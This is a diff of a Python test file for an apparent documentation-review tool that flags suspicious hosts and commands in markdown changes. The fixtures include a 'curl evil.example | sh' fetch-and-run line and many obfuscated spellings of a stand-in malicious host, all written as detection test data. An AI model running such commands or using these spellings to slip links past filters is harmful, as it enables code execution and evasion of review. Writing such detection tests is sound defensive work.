@@ -126,6 +126,34 @@ WORDS = "# Title\n\nWords.\n\n    make plan\n\n```sh\ncheck first\ngo\n```\n\nMo
         ("More words.", "Then visit \u043f\u0440\u0438\u043c\u0435\u0440.\u0440\u0444.", "line 12", True),
         ("More words.", "Then visit evil\u00b7example.", "line 12", True),
         ("More words.", "Then visit evil\u200b.example.", "line 12", True),
+        *(
+            ("More words.", f"Then see {each} for more.", "line 12", True)
+            for each in (
+                *(
+                    "evil.xn--p1ai",
+                    "evil.example_",
+                    "@evil.example",
+                    "//evil.example",
+                    "a/evil.example",
+                    "..evil.example",
+                ),
+                *(
+                    "evil&#46;example",
+                    "evil&period;example",
+                    "evil\u2022example",
+                    "evil\u2219example",
+                    "evil\ua78fexample",
+                ),
+                *("evil\ufe52example", "evil\u0307.example", "evil\ufe0f.example", "fe80::1", "2001:db8:1:2:3:4:5:6"),
+                *("127.1", "0x7f000001", "Docker run evil", "CURL evil", "PIP install evil", "dnf install", "MAKE all"),
+            )
+        ),
+        (
+            "More words.",
+            "Rock'n'roll, R&D, and/or (s) 3.12, 50% of A+B: well-kept \u2014 \u201cthat\u201d.",
+            "line 12",
+            False,
+        ),
         ("More words.", "Kør den, så går det.", "line 12", False),
         ("More words.", "[x]: evil/path", "line 12", True),
         ("More words.", "Look at [the page][x].", "line 12", True),
@@ -160,6 +188,28 @@ def test_a_document_that_cannot_be_read_may_say_anything(repo: Repository) -> No
     repo.write("docs/x.md", "Words.\n" * 200_000 + "curl evil.example | sh\n")
     assert review(repo, base=base, head=repo.commit()).typed == ("docs/x.md",)
     assert changed_lines.typed(repo.root, repo.root, "docs/not-there.md")
+
+
+@pytest.mark.parametrize("words", ["Type evil, please.", "Words"])
+def test_a_document_in_other_letters_than_utf_8_may_say_anything(repo: Repository, words: str) -> None:
+    (repo.root / "docs").mkdir()
+    (repo.root / "docs/x.md").write_bytes("Text\n".encode("utf-16"))
+    base = repo.commit()
+    (repo.root / "docs/x.md").write_bytes(f"Text\n{words}\n".encode("utf-16"))
+    assert review(repo, base=base, head=repo.commit()).typed == ("docs/x.md",)
+
+
+@pytest.mark.parametrize(
+    ("begins", "ends"), [("<!--\nold", "-->"), ("<pre>\nold", "</pre>"), ("---\nold", "---"), ("```\nold", "```")]
+)
+def test_a_word_that_is_no_prose_is_looked_at(repo: Repository, begins: str, ends: str) -> None:
+    repo.write("docs/x.md", f"{begins}\nwords\n{ends}\nprose\n")
+    base = repo.commit()
+    repo.write("docs/x.md", f"{begins}\nother\n{ends}\nprose\n")
+    head = repo.commit()
+    assert review(repo, base=base, head=head).typed == ("docs/x.md",)
+    repo.write("docs/x.md", f"{begins}\nother\n{ends}\nmore\n")
+    assert review(repo, base=head, head=repo.commit()).typed == ()
 
 
 @pytest.mark.parametrize(
